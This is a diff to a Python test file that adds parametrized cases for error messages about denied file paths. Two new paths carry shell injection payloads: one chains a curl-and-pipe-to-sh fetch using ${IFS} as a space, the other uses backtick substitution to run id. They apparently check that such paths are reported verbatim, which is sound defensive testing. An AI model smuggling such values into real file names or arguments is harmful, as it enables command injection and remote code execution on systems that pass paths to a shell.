@@ -119,6 +119,9 @@ DENIED = "PermissionError: [Errno 13] Permission denied: '{}'"
         ("/app/x", ("path /app/x", "folder /app", "code /app", "after D:3")),
         ("/x", ("path /x", "folder /", "code /", "after D:3")),
         ("/app/media/x", ("path /app/media/x", "folder /app/media", "after D:3")),
+        # The line after it is for a shell.
+        ("/a;curl${IFS}x|sh/x", ("path /a;curl${IFS}x|sh/x", "folder /a;curl${IFS}x|sh")),
+        ("/a/`id`/x", ("path /a/`id`/x", "folder /a/`id`")),
     ],
 )
 def test_file_error_lines(path: str, lines: tuple[str, ...]) -> None:
